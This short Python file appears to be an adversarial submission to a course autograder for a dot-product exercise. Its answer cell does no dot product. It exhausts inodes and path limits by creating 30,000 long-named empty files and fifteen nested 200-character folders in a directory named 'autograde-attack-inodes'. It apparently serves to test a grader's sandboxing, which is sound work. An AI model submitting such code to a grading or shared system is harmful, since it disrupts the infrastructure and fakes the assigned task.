"""Fills its folder with 30,000 empty files with long names, and deep folders."""
# into: 03_dot_product DotProduct
# stock: 0 of 8; files left in the course
# %% answer
import os

made = 0
os.makedirs("autograde-attack-inodes", exist_ok=True)
os.chdir("autograde-attack-inodes")
try:
    for number in range(30_000):
        os.close(os.open(f"{number:x>200}", os.O_CREAT | os.O_WRONLY))
        made += 1
    for _ in range(15):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
except OSError as error:
    print(error)
print("files:", made)
